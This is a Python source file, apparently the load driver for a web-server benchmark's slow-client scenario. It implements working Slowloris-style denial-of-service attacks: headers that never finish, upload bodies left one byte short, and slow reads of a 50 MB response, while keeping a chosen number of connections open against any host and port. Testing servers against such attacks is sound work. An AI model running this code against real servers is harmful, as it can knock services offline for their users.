"""Slow-client attacks for the benchmark's slow-client scenario (slowclients.py).

Holds COUNT connections to HOST:PORT, all in one process with non-blocking sockets, and
moves each of them a little every --tick seconds:

  heads    sends the start of a GET head, then one byte of a header value per tick, never
           ending the head;
  bodies   sends a whole head of `POST /upload` with `Content-Length: 1000000` (the app
           reads the body), then --piece bytes of the body per tick;
  readers  sends `GET /big` (a 50 MB answer) from a socket with a small receive buffer and
           reads --piece bytes of the answer per tick.

A connection the server closes or answers (a 408, say) is replaced at the next tick, so the
attack keeps COUNT connections open for as long as it runs. When COUNT are connected (or
after --setup-timeout) it prints one JSON line {"open": n}; on SIGTERM/SIGINT it prints
{"opened": ..., "closed_by_server": ..., "answers": {status: n}, "sent": ..., "received": ...}
and exits.

  /usr/bin/python3 attack.py MODE HOST PORT COUNT [--tick 1] [--piece N] [--rcvbuf 4096]
"""
import argparse
import errno
import json
import re
import resource
import selectors
import signal
import socket
import sys
import time

BODY_SIZE = 1000000


def main():
        ap = argparse.ArgumentParser()
        ap.add_argument("mode", choices=("heads", "bodies", "readers"))
        ap.add_argument("host")
        ap.add_argument("port", type=int)
        ap.add_argument("count", type=int)
        ap.add_argument("--tick", type=float, default=1.0)
        ap.add_argument("--piece", type=int, default=1000,
                        help="body bytes sent (bodies) or answer bytes read (readers) per tick")
        ap.add_argument("--rcvbuf", type=int, default=4096, help="SO_RCVBUF of a reader")
        ap.add_argument("--path", default="/big?size=50000000", help="what a reader asks for")
        ap.add_argument("--batch", type=int, default=100, help="connects started per 50 ms")
        ap.add_argument("--setup-timeout", type=float, default=30.0)
        args = ap.parse_args()

        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        if soft < min(hard, 65536):
                resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65536), hard))

        stop = []
        signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
        signal.signal(signal.SIGINT, lambda *_: stop.append(1))

        host = "%s:%d" % (args.host, args.port)
        if args.mode == "heads":
                first = ("GET / HTTP/1.1\r\nHost: %s\r\nX-Slow: " % host).encode()
        elif args.mode == "bodies":
                first = ("POST /upload HTTP/1.1\r\nHost: %s\r\nContent-Type: application/octet-stream\r\n"
                         "Content-Length: %d\r\n\r\n" % (host, BODY_SIZE)).encode()
        else:
                first = ("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (args.path, host)).encode()
        piece = b"b" * args.piece

        sel = selectors.DefaultSelector()
        conns = {}              # socket -> [state, bytes of body sent]; state: connecting, open
        stats = {"opened": 0, "closed_by_server": 0, "connect_failed": 0, "answers": {},
                 "sent": 0, "received": 0}

        def drop(s, by_server=True):
                if conns[s][0] == "connecting":
                        sel.unregister(s)
                del conns[s]
                s.close()
                if by_server:
                        stats["closed_by_server"] += 1

        def open_some(limit):
                n = 0
                while len(conns) < args.count and n < limit:
                        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                        if args.mode == "readers":
                                s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, args.rcvbuf)
                        s.setblocking(False)
                        err = s.connect_ex((args.host, args.port))
                        if err not in (0, errno.EINPROGRESS):
                                s.close()
                                stats["connect_failed"] += 1
                                return
                        conns[s] = ["connecting", 0]
                        sel.register(s, selectors.EVENT_WRITE)
                        stats["opened"] += 1
                        n += 1

        def send(s, data):
                try:
                        n = s.send(data)
                except (BlockingIOError, InterruptedError):
                        return 0
                except OSError:
                        drop(s)
                        return -1
                stats["sent"] += n
                return n

        def on_connected(s):
                sel.unregister(s)
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                        del conns[s]
                        s.close()
                        stats["connect_failed"] += 1
                        return
                conns[s][0] = "open"
                # the head's start (or all of it) fits the socket's buffer at once
                send(s, first)

        def tick(s):
                """One step of an open connection: read what the server said, then move on."""
                want = args.piece if args.mode == "readers" else 4096
                try:
                        data = s.recv(want)
                except (BlockingIOError, InterruptedError):
                        data = None
                except OSError:
                        drop(s)
                        return
                if data == b"":
                        drop(s)
                        return
                if data:
                        stats["received"] += len(data)
                        if args.mode != "readers" or data.startswith(b"HTTP/"):
                                m = re.match(rb"HTTP/1\.[01] (\d{3})", data)
                                status = m.group(1).decode() if m else "?"
                                stats["answers"][status] = stats["answers"].get(status, 0) + 1
                        if args.mode != "readers":
                                # answered (408, 413, or the upload's 200): a new one takes its place
                                drop(s)
                                return
                if args.mode == "heads":
                        send(s, b"a")
                elif args.mode == "bodies":
                        st = conns[s]
                        left = BODY_SIZE - st[1]
                        if left > 1:
                                # never the last byte: the body stays unfinished
                                n = send(s, piece[:min(len(piece), left - 1)])
                                if n > 0:
                                        st[1] += n

        reported = False
        setup_end = time.monotonic() + args.setup_timeout
        next_tick = time.monotonic() + args.tick
        while not stop:
                now = time.monotonic()
                if len(conns) < args.count:
                        open_some(args.batch)
                for key, _ in sel.select(timeout=0.05):
                        if key.fileobj in conns:
                                on_connected(key.fileobj)
                open_count = sum(1 for st in conns.values() if st[0] == "open")
                if not reported and (open_count >= args.count or now > setup_end):
                        print(json.dumps({"open": open_count}), flush=True)
                        reported = True
                if now >= next_tick:
                        next_tick += args.tick
                        if next_tick < now:
                                next_tick = now + args.tick
                        for s in [s for s, st in conns.items() if st[0] == "open"]:
                                if s in conns:
                                        tick(s)
        if not reported:
                print(json.dumps({"open": 0}), flush=True)
        stats["open_at_end"] = len(conns)
        for s in list(conns):
                drop(s, by_server=False)
        print(json.dumps(stats), flush=True)
        return 0


if __name__ == "__main__":
        sys.exit(main())
